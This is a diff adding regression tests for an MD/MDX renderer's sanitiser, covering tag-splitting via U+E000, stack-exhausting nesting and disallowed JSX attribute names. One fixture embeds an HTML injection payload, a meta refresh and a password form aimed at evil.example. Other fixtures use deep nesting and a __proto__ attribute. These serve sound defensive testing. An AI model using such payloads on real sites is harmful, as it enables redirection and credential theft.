@@ -148,6 +148,42 @@ describe('MDX bodies', () => {
 	});
 });
 
+describe('found in review, kept out for good', () => {
+	it('never lets an attribute value the author wrote cut a tag open around a component', () => {
+		// U+E000 once split the tags around a component: the rest of the body became markup (a meta refresh, a form).
+		for (const attribute of ['title="&#xE000;"', 'lang="\uE000"', 'title="&#xE000;&#xE000;"']) {
+			const body = `<blockquote ${attribute}>\n\n<p title="><meta http-equiv=refresh content=0;url=https://evil.example><form action=https://evil.example><input name=pw></form>">x</p>\n\n<Callout>提示</Callout>\n\n</blockquote>\n`;
+			const rendered = html(renderBody(body, 'mdx', options));
+			expect(activeContentIn(`<!doctype html><html><body>${rendered}</body></html>`, '/ztzl/dbjj/'), attribute).toEqual([]);
+			expect(rendered).toMatch(/^<blockquote [a-z]+="[^"]*">/);
+		}
+	});
+
+	it.each([
+		['md', `a ${'<span>'.repeat(2000)}`],
+		['md', '<div>'.repeat(3000)],
+		['mdx', `${'<Callout>\n\n'.repeat(5000)}提示\n\n${'</Callout>\n\n'.repeat(5000)}`],
+	] as const)('refuses nesting that would exhaust the stack (%s), instead of failing the build', (kind, body) => {
+		const tree = bodyTree(body, kind);
+		expect('error' in tree && tree.error.rule).toBe('nesting-depth');
+		expect(renderBody(body, kind, options)).toEqual([]);
+	});
+
+	it('refuses JSX attribute names that are not HTML names', () => {
+		expect(treeOf('<p children="x" __proto__="y">文字</p>\n', 'mdx').refusals.map((refusal) => refusal.message)).toEqual([
+			'<p> 不允许使用属性 children，请删除（attribute children is not allowed）',
+			'<p> 不允许使用属性 __proto__，请删除（attribute __proto__ is not allowed）',
+		]);
+	});
+
+	it.each(['<td align="center">x</td>\n', '<tr><th>x</th></tr>\n', '<p title="x">文字</p>\n'])('agrees with the sanitiser on MDX written as HTML: %s', (body) => {
+		const { hast, refusals } = treeOf(body, 'mdx');
+		expect(refusals).toEqual([]);
+		expect(explainHtml(hast)).toEqual([]);
+		expect(toHtml(sanitize(hast, BODY_SCHEMA))).toBe(toHtml(hast));
+	});
+});
+
 describe('the hostile fixtures', () => {
 	it.each(readdirSync(HOSTILE))('render %s with nothing active or third-party', (name) => {
 		const kind = name.endsWith('.mdx') ? 'mdx' : 'md';
